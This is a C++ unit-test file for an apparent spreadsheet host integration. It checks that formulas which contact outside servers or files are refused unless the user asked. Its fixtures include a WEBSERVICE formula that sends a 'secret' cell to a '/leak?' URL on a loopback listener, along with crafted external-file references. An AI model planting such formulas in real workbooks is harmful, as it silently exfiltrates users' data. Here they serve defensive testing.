// Workbooks that reach out when they are evaluated: nothing of that happens unless the user asked.
#include "tests/calc/CalcReads.h"
#include "tests/calc/LoopbackListener.h"
#include "tests/calc/OpenedFile.h"

namespace quorin::host::calc {
namespace {

using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

class CalcReach : public CalcReads {
 protected:
  static void SetUpTestSuite() {
    CalcReads::SetUpTestSuite();
    listener = std::make_unique<LoopbackListener>();
    const std::string url = listener->url();
    const std::string call = "_xlfn.WEBSERVICE(\"" + url + "leak?\"&Data!$A$4)";
    open({.name = "Reach.xlsx",
          .sheets = {{"Data",
                      {{"A1", 5.0, "=LEN(W)+1"},
                       {"A4", "secret"},
                       {"A5", "'" + url + "a.ods'#$Sheet1.A1"},
                       {"A6", "[" + url + "a.xlsx]Sheet1!A1"},
                       {"A7", "'[" + url + "a.xlsx]She\net1'!A1"},
                       {"A8", "'" + url + "[[a.xlsx]She\xE2\x80\xA8t!1'!A1"},
                       {"B1", 4.0, "=LEN(" + call + ")"},
                       {"B2", "x", "=HYPERLINK(\"" + url + "\",\"x\")"}}},
                     {"Own", {{"A1", 1.0}}}},
          .names = {{"W", "=" + call},
                    {"Nested", "=LEN(W)&\"\""},
                    {"Local", "=" + call, "Own"},
                    {"Chooses", "=IF(Data!$A$1=5,1," + call + ")"},
                    {"Asks", "=INDIRECT(\"W\")"},
                    {"Link", "=DDE(\"soffice\",\"" + url + "a.ods\",\"A1\")"},
                    {"Xml", "=_xlfn.FILTERXML(\"<a/>\",\"/a\")"},
                    {"Own_macro", "=MYMACRO(1)"},
                    {"There", "=Data!$A$4"}}});
  }
  static void TearDownTestSuite() {
    CalcReads::TearDownTestSuite();
    listener.reset();
  }
  void SetUp() override {
    road->use([](CalcSpreadsheet& calc) {
      calc.activateSheet({"Reach.xlsx", "Data"});
      calc.activateCell({{"Reach.xlsx", "Data"}, {{1, 1, 1, 1}}});
    });
  }

  static std::string refusal(const std::string& function) {
    return R"({"code":-9993,"kind":"transport","message":"Microsoft Excel got an error: Runs “)" +
           function + R"(”, so only when you ask.","ok":false})";
  }

  static inline std::unique_ptr<LoopbackListener> listener;
};

TEST_F(CalcReach, CallsNothingThatReachesOutUnlessTheUserAsked) {
  const std::string url = listener->url();
  const std::string call = "WEBSERVICE(\"" + url + "\"&A4)";
  for (const std::string& expression :
       {std::string("LEN(W)+1"), std::string("W"), std::string("=w"), std::string("Nested"),
        std::string("Own!Local"), std::string("Chooses"), call,
        "LEN( _xlfn.WebService(\"" + url + "\"))", "IF(TRUE,1," + call + ")",
        "LET(x," + call + ",x&1)", "INDIRECT(" + call + ")", "ERROR.TYPE(" + call + ")",
        "LET(LAMBDA,1," + call + ")", std::string("CELL(\"format\",W)")}) {
    EXPECT_EQ(evaluate(expression), refusal("WEBSERVICE")) << expression;
    EXPECT_EQ(deep({expression == "W" ? call : "[Reach.xlsx]Data!A4&" + call}),
              refusal("WEBSERVICE"));
  }
  EXPECT_EQ(evaluate("Link"), refusal("DDE"));
  EXPECT_EQ(evaluate("Xml"), refusal("FILTERXML"));
  EXPECT_EQ(evaluate("Own_macro+1"), refusal("MYMACRO"));
  EXPECT_EQ(evaluate("rtd(\"a\",,\"b\")"), refusal("RTD"));
  EXPECT_EQ(evaluate("Com.Microsoft.WebService(1)"), refusal("COM.MICROSOFT.WEBSERVICE"));
  EXPECT_EQ(deep({"1+1", "MYMACRO(A1)"}), refusal("MYMACRO"));
  EXPECT_THAT(listener->requests(), IsEmpty());
}

TEST_F(CalcReach, FindsNothingOutsideByText) {
  // Arrays and second arguments leave it to Calc what the text names.
  for (const char* text :
       {"A5", "A6", "A7", "A8", "A5:A8", "\"W\"", "\"Nested\"", "\"Own!Local\""}) {
    for (const char* style : {"", ",TRUE", ",FALSE"}) {
      evaluate("IFERROR(INDIRECT(" + std::string(text) + style + "),0)+1");
      evaluate("SUM(INDIRECT({\"A1\",\"A4\"}&\"\"),INDIRECT(" + std::string(text) + style + "))");
      deep({"IFERROR(INDIRECT([Reach.xlsx]Data!" + std::string(text) + style + "),0)+1"});
    }
  }
  EXPECT_EQ(evaluate("Asks"), evaluate("INDIRECT(\"nowhere\")"));
  EXPECT_EQ(evaluate("INDIRECT(\"There\",TRUE)&\"!\""), R"({"ok":true,"value":"secret!"})");
  EXPECT_EQ(evaluate("'" + listener->url() + "[a.xlsx]Sheet1'!A1+1"),
            R"({"kind":"excelError","message":"#REF!","ok":false})");
  EXPECT_THAT(listener->requests(), IsEmpty());
}

TEST_F(CalcReach, LooksAtATextOfAnyLengthOnce) {
  for (const char* text :
       {"REPT(\"[\",30000)", "REPT(\"' #\",10000)&\"!\"", "REPT(\"[\",30000)&\"!\""})
    EXPECT_EQ(evaluate("INDIRECT(" + std::string(text) + ")"),
              R"({"kind":"excelError","message":"#REF!","ok":false})")
        << text;
  EXPECT_EQ(evaluate("INDIRECT(\"Data\"&\"!A4\")"), R"({"ok":true,"value":"secret"})");
}

TEST_F(CalcReach, ReadsCellsAndTheirFormatsWithoutCalculatingThemAnew) {
  for (const char* harmless :
       {"CELL(\"format\",A1)", "CELL(\"format\",Data!A1)&\"|\"&CELL(\"format\",B1)", "A1+B1",
        "B2&\"!\"",
        "HYPERLINK(\""
        "x\",\"y\")"}) {
    evaluate(harmless);
  }
  ask("readCell");
  ask("readRange", {"A1:B4"});
  ask("dependents", {"A4"});
  ask("workbookMap");
  EXPECT_THAT(listener->requests(), IsEmpty());
}

// A copy holds all formulas and works some out anew, here with a branch that was never taken
// before.
TEST_F(CalcReach, CopiesNoWorkbookWhoseFormulasReachOut) {
  open({.name = "Copied.xlsx",
        .sheets = {{"Data",
                    {{"A1", "", "=IF(A4=\"quiet\",\"\",LEN(INDIRECT(A5)))"},
                     {"A4", "quiet"},
                     {"A5", "'" + listener->url() + "copied.ods'#$Sheet1.A1"}}}}});
  ASSERT_THAT(listener->requests(), IsEmpty());
  for (const char* expression : {"TABLE(A1,A4,A5)", "GETPIVOTDATA(\"a\",A4)"}) {
    EXPECT_THAT(evaluate(expression), HasSubstr("finds cells by texts, so only when you ask"))
        << expression;
  }
  EXPECT_THAT(listener->requests(), IsEmpty());
}

// Calc works INDIRECT out whenever it shows a cell, whatever the file holds for its value.
TEST_F(CalcReach, OpensNoFileThatAWorkbookNamesByTextWhenItIsOpened) {
  fakes::writeXlsx({.name = "Bait.xlsx", .sheets = {{"Sheet1", {{"A1", "bait"}}}}},
                   *folder / "Bait.xlsx");
  OpenedFile bait(*folder / "Bait.xlsx");
  const std::string name = "file://" + (*folder / "Bait.xlsx").string();
  open({.name = "Indirect.xlsx",
        .sheets = {{"Data",
                    {{"A1", 1.0, "=INDIRECT(A2)"},
                     {"A2", "'" + name + "'#$Sheet1.A1"},
                     {"A3", 1.0, "=LEN(INDIRECT(\"'\"&\"" + name + "'#$Sheet1.A1\"))"}}}}});
  EXPECT_THAT(ask("readRange", {"A1:A3"}), Not(HasSubstr("\"bait\"")));
  ask("readCell");
  evaluate("A1&A3");
  EXPECT_FALSE(bait.wasOpened());
}

TEST_F(CalcReach, AsksOnceTheUserWantsItAndNeverForTheNextRequest) {
  EXPECT_EQ(ask("evaluate", {"LEN(W)+1", "Asked"}), refusal("WEBSERVICE"));
  EXPECT_EQ(ask("evaluate", {"LEN(W)+1", true}), refusal("WEBSERVICE"));
  EXPECT_THAT(listener->requests(), IsEmpty());
  EXPECT_EQ(ask("evaluate", {"LEN(W)+1", "asked"}), R"({"ok":true,"value":5})");
  const auto asked = listener->requests();
  ASSERT_FALSE(asked.empty());
  EXPECT_THAT(asked.front(), HasSubstr(" /leak?secret "));
  EXPECT_EQ(evaluate("LEN(W)+1"), refusal("WEBSERVICE"));
  EXPECT_EQ(evaluate("A1*2"), R"({"ok":true,"value":10})");
  EXPECT_EQ(listener->requests(), asked);
  const std::string call = "WEBSERVICE(\"" + listener->url() + "deep\")";
  EXPECT_EQ(ask("deepEval", {Array{call, "LEN(A1)"}, "asked"}), R"({"ok":true,"value":4})");
  EXPECT_EQ(deep({call, "LEN(A1)"}), refusal("WEBSERVICE"));
}

TEST_F(CalcReach, LeavesNothingOfACallThatTimedOutToTheNext) {
  listener->hold();
  try {
    road->thread().call("qx_evaluate", {"LEN(W)+1"}, 0, true);
    ADD_FAILURE() << "no time-out";
  } catch (const ExcelError& failure) {
    EXPECT_EQ(failure.code(), ExcelError::timedOut);
  }
  listener->release();
  EXPECT_EQ(evaluate("LEN(W)+1"), refusal("WEBSERVICE"));
  EXPECT_EQ(evaluate("A1*2"), R"({"ok":true,"value":10})");
}

}  // namespace
}  // namespace quorin::host::calc
